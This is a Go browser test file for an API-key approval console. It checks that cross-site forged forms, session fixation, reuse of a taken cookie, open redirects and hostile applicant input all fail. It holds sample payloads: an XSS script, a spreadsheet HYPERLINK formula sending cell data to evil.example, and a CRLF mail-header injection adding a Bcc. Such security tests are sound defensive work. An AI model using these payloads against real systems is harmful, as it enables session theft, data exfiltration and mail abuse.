package main

import (
	"context"
	"fmt"
	"html"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"

	mailsandbox "keybridge/bridge/notify/mail/sandbox"
	tyksandbox "keybridge/bridge/tyk/sandbox"

	"keybridge/bridge"
)

// These tests do to the console, in a real browser, what somebody would who means ill.

func TestMisuseOfTheConsole(t *testing.T) {
	t.Parallel()
	b := startChromium(t)
	v := b.visit(t, choice{both: true, plans: append(of(reviewedPlan, paidPlan), partnerReviewed)})
	password := v.hire("paul", bridge.Approver)
	f := &far{stand: v.stand, portal: demoPortal, email: asker}
	r := f.comesTo(f.file(reviewed), bridge.StateReviewing)
	at := "/console/requests/" + string(r.ID)
	for _, m := range []struct {
		name string
		try  func(*visit)
	}{
		{"another site's page posts a decision", func(v *visit) {
			v.enters("paul", password, at)
			v.at("next-title")
			evil := otherSite(t, fmt.Sprintf(`<form method="post" action="%s/note"><input name="text" value="forged"></form>
				<form method="post" action="%s/approve"><input name="text" value="forged"><input name="seen" value=""></form>`, v.url+at, v.url+at))
			for form := range 2 {
				v.open(evil)
				v.submits(fmt.Sprintf("document.forms[%d].submit()", form))
				v.sees("That came from another site")
			}
			now := v.request(r.Key)
			if len(now.Notes) != 0 || now.State() != bridge.StateReviewing {
				v.t.Errorf("%d notes, %s", len(now.Notes), now.State())
			}
		}},
		{"a session is planted before somebody signs in", func(v *visit) {
			v.open(v.url + "/console/sign-in")
			v.plants("planted-by-somebody-else")
			v.enters("paul", password, "/console/")
			v.sees("Queue")
			if got := v.cookie(); got == "" || got == "planted-by-somebody-else" {
				v.t.Errorf("the session is %q", got)
			}
			if v.opens("planted-by-somebody-else") {
				v.t.Error("the planted session lets somebody in")
			}
		}},
		{"a cookie is taken, and used after its owner has signed out", func(v *visit) {
			v.enters("paul", password, "/console/")
			v.sees("Queue")
			taken := v.cookie()
			if !v.opens(taken) {
				v.t.Fatal("the taken cookie lets nobody in, so this shows nothing")
			}
			v.leaves()
			if v.opens(taken) {
				v.t.Error("the taken cookie still lets somebody in")
			}
		}},
		{"the sign-in page is asked to lead elsewhere", func(v *visit) {
			for _, next := range []string{"https://evil.example/", "//evil.example/", `/\evil.example/`, "/console/../../evil", "javascript:alert(1)"} {
				v.enters("paul", password, "/console/sign-in?next="+html.EscapeString(next))
				v.sees("Queue")
				if got := says[string](v, "location.origin + location.pathname"); got != v.url+"/console/" {
					v.t.Errorf("%q led to %s", next, got)
				}
				v.leaves()
			}
		}},
	} {
		t.Run(m.name, func(t *testing.T) { m.try(b.tab(v.in(t))) })
	}
}

// otherSite is a page that is not ours, on a host that browsers count as the same site.
func otherSite(t *testing.T, body string) string {
	t.Helper()
	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		_, _ = fmt.Fprintf(w, "<title>evil</title>%s", body) // to a browser that may be gone
	}))
	t.Cleanup(s.Close)
	return s.URL
}

// submits runs a script that leads to another page.
func (v *visit) submits(script string) {
	v.t.Helper()
	ctx, cancel := context.WithTimeout(v.ctx, patience)
	defer cancel()
	if _, err := chromedp.Run(ctx, chromedp.Evaluate[bool](script+"; true")); err != nil {
		v.t.Fatal(err)
	}
}

// sessionCookie is the console's where there is no TLS.
const sessionCookie = "keybridge-console"

// cookie is the console's cookie in the browser.
func (v *visit) cookie() (value string) {
	v.t.Helper()
	v.do(func(ctx context.Context, t *chromedp.Target) error {
		got, err := cdp.Call(ctx, t, network.GetCookies, network.GetCookiesParams{URLs: []string{v.url + "/console/"}})
		if err != nil {
			return err
		}
		for _, c := range got.Cookies {
			if c.Name == sessionCookie {
				value = c.Value
			}
		}
		return nil
	})
	return value
}

// plants puts a session's cookie into the browser.
func (v *visit) plants(value string) {
	v.t.Helper()
	v.do(func(ctx context.Context, t *chromedp.Target) error {
		_, err := cdp.Call(ctx, t, network.SetCookie, network.SetCookieParams{Name: sessionCookie, Value: value, URL: v.url + "/console/", Path: "/console/"})
		return err
	})
}

// opens reports whether the queue is shown to who has a cookie, in a browser of their own.
func (v *visit) opens(cookie string) bool {
	v.t.Helper()
	req, err := http.NewRequestWithContext(v.t.Context(), http.MethodGet, v.url+"/console/", nil)
	if err != nil {
		v.t.Fatal(err)
	}
	req.AddCookie(&http.Cookie{Name: sessionCookie, Value: cookie}) //nolint:gosec // a request's cookie has no attributes
	answer, err := http.DefaultTransport.RoundTrip(req)
	if err != nil {
		v.t.Fatal(err)
	}
	_ = answer.Body.Close() // nothing is read
	return answer.StatusCode == http.StatusOK
}

// What a developer writes who means ill: a page's script, a spreadsheet's formula, a
// mail's header.
const (
	evilScript  = `"><script>window.pwned = 1</script><img src=x onerror="window.pwned = 1">{{.Person}}`
	evilFormula = `=HYPERLINK("https://evil.example/?"&A1,"open")`
	evilHeader  = "Ada\r\nBcc: everybody@evil.example\r\nContent-Type: text/html\r\n\r\n<h1>forged</h1>"
)

func TestWhatAnApplicantWritesIsTextEverywhere(t *testing.T) {
	t.Parallel()
	b := startChromium(t)
	v := b.visit(t, choice{both: true, plans: append(of(reviewedPlan, paidPlan), partnerReviewed), subjects: `{approve: "For {{.Name}}", start: "For {{.Name}}"}`})
	password := v.hire("ada", bridge.Admin)
	var requests []bridge.Request
	for i, evil := range []string{evilScript, evilFormula, evilHeader} {
		email := fmt.Sprintf("evil%d@example.com", i)
		if _, err := v.Portal.AddDeveloper(tyksandbox.Developer{Email: email, Password: "a long password", Fields: map[string]string{"Name": evil}}); err != nil {
			t.Fatal(err)
		}
		key, err := v.Portal.CreateKeyRequest(tyksandbox.Ask{
			Email: email, Policies: []string{tyksandbox.ReviewedPolicy}, Fields: map[string]string{"What will you build?": evil},
		})
		if err != nil {
			t.Fatal(err)
		}
		f := &far{stand: v.stand, portal: demoPortal, email: email}
		requests = append(requests, f.comesTo(key.ID, bridge.StateReviewing))
	}
	v.enters("ada", password, "/console/")
	v.sees("Queue")
	for _, address := range evilPages(requests) {
		v.open(v.url + address)
		if says[bool](v, "window.pwned !== undefined") {
			t.Errorf("%s ran what an applicant wrote", address)
		}
	}
	v.open(v.url + "/console/requests/" + string(requests[0].ID))
	if !says[bool](v, "document.body.innerText.includes("+quoted(evilScript)+")") {
		t.Error("the request's page does not show to the letter what the applicant wrote")
	}
	for i, r := range requests {
		if err := v.desk().Do(t.Context(), r.ID, bridge.Deed{Kind: bridge.DoApprove}); err != nil {
			t.Fatal(err)
		}
		f := &far{stand: v.stand, portal: demoPortal, email: fmt.Sprintf("evil%d@example.com", i)}
		wantPlainMail(t, f.told(bridge.TellApproved), f.email)
	}
	if n := len(v.Mail.Mails(mailsandbox.Filter{To: "everybody@evil.example"})); n != 0 {
		t.Errorf("%d mails went to an address that an applicant wrote into their name", n)
	}
}

// evilPages are the pages that show what applicants write.
func evilPages(requests []bridge.Request) []string {
	pages := []string{"/console/", "/console/?show=all", "/console/?show=all&q=" + url.QueryEscape(evilScript)}
	for _, r := range requests {
		at := "/console/requests/" + string(r.ID)
		pages = append(pages, at, at+"/approve", at+"/decline", at+"/ask")
	}
	return pages
}

// wantPlainMail checks that a mail went to one address, under the fields of ours alone.
func wantPlainMail(t *testing.T, m mailsandbox.Mail, to string) {
	t.Helper()
	if m.Problem != "" || !slices.Equal(m.To, []string{to}) || len(m.Header["Bcc"]) != 0 || len(m.Header["Content-Type"]) != 1 {
		t.Errorf("to %q, problem %q, header %v", m.To, m.Problem, m.Header)
	}
	if !strings.HasPrefix(m.Header.Get("Content-Type"), "multipart/") || strings.Contains(m.HTML, "<script") || strings.Contains(m.HTML, "<h1>forged") {
		t.Errorf("an applicant wrote part of the mail:\n%v\n%s", m.Header, m.HTML)
	}
}
